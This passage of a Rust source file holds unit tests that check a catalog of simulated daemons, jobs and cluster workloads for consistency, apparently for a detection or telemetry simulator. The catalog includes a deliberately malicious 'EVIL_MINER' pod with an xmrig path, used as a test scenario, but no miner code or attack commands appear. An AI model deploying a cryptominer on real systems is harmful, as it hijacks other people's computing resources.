    "network-explorer-reducer",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn catalog_is_consistent() {
        let mut all: Vec<Exe> = vec![SYSTEMD, SHIM];
        all.extend(DAEMONS);
        all.extend(JOBS.iter().map(|j| j.0));
        for w in ADDONS.iter().chain(APPS.iter()).chain(SINGLETONS.iter()).chain([
            &COREDNS,
            &NODE_EXPORTER,
            &LOG_SHIPPER,
            &EVIL_MINER,
        ]) {
            for (i, p) in w.procs.iter().enumerate() {
                assert!(
                    p.parent.is_none_or(|j| j < i),
                    "{}: a parent precedes its child",
                    w.name
                );
                all.push(p.exe);
            }
        }
        for e in &all {
            assert!(e.path.starts_with('/'), "{}", e.path);
            assert!(!e.name.is_empty() && e.name.len() <= 32, "{}", e.name);
            if w_is_reserved(e.path) {
                assert!(
                    ["/bin/node_exporter", "/xmrig/xmrig"].contains(&e.path),
                    "only node-exporter and the evil miner may use a reserved path outside scenarios: {}",
                    e.path
                );
            }
        }
        assert_eq!(DAEMONS[CRON].path, "/usr/sbin/cron");
        assert_eq!(DAEMONS[CONTAINERD].path, "/usr/bin/containerd");
        assert!(APPS.iter().any(|w| w.procs.len() == 1));
    }

    #[test]
    fn workloads_images_and_topology_names_are_consistent() {
        let all: Vec<&Workload> = ADDONS
            .iter()
            .chain(APPS.iter())
            .chain(SINGLETONS.iter())
            .chain([&COREDNS, &NODE_EXPORTER, &LOG_SHIPPER, &EVIL_MINER])
            .collect();
        let mut names: Vec<&str> = all.iter().map(|w| w.name).collect();
        names.sort_unstable();
        let n = names.len();
        names.dedup();
        assert_eq!(names.len(), n, "workload names are unique");
        for w in &all {
            assert!(
                w.image.contains('/') && !w.image.contains(':'),
                "{}: a repository",
                w.image
            );
            assert!(!w.container.is_empty(), "{}", w.name);
            assert!(!w.tag.contains(':') && !w.tag.contains('/'), "{}: {}", w.name, w.tag);
        }
        let known = |n: &str| all.iter().any(|w| w.name == n);
        for (client, servers) in TALKS {
            assert!(known(client), "{client}");
            for s in servers {
                assert!(known(s) && *s != client, "{client} → {s}");
            }
        }
        for w in TELEMETRY.iter().chain(DNS_CLIENTS.iter()) {
            assert!(known(w), "{w}");
        }
        assert!(
            !TALKS.iter().any(|(c, _)| *c == EVIL_MINER.name),
            "the evil pod talks to no one"
        );
    }

    fn w_is_reserved(p: &str) -> bool {
        RESERVED.contains(&p)
    }
}
